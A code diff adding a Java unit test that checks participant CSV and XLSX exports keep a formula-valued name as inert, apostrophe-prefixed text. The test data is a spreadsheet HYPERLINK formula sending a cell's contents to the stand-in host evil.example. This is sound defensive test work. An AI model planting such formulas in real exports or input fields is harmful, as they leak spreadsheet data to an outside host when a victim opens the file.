@@ -16,6 +16,8 @@ import id.pelita.support.SignIn;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVRecord;
+import org.dhatim.fastexcel.reader.Cell;
+import org.dhatim.fastexcel.reader.CellType;
 import org.dhatim.fastexcel.reader.ReadableWorkbook;
 import org.dhatim.fastexcel.reader.Row;
 import org.junit.jupiter.api.Test;
@@ -126,6 +128,31 @@ abstract class RunParticipantsTests extends EnrolmentTestBase {
 		assertThat(rows.get(1).get(2)).isEqualTo(people.get(0).fullName());
 		assertThat(rows.get(2).get(4)).isEqualTo("Daftar tunggu");
 		assertThat(rows.get(2).get(5)).isEqualTo("1");
+	}
+
+	@Test
+	void aNameThatIsAFormulaStaysInertTextInBothDownloads() throws IOException {
+		long runId = this.fixtures.openRun(5, Map.of(), EnrolmentMode.OPEN);
+		String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik\")";
+		enrol(this.fixtures.employeeNamed(formula, this.serangOpd), runId);
+		SignIn.as(this.context, "penyelenggara");
+
+		ByteArrayOutputStream csv = new ByteArrayOutputStream();
+		this.participants.exportParticipants(runId, SpreadsheetFormat.CSV, csv);
+		byte[] bytes = csv.toByteArray();
+		try (CSVParser parser = CSVParser.parse(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8),
+				CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').get())) {
+			assertThat(parser.getRecords().get(1).get(2)).isEqualTo("'" + formula);
+		}
+
+		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+		this.participants.exportParticipants(runId, SpreadsheetFormat.XLSX, xlsx);
+		try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
+			Cell name = workbook.getFirstSheet().read().get(1).getCell(2);
+			assertThat(name.getType()).isEqualTo(CellType.STRING);
+			assertThat(name.getFormula()).isNull();
+			assertThat(name.asString()).isEqualTo("'" + formula);
+		}
 	}
 
 	@Test
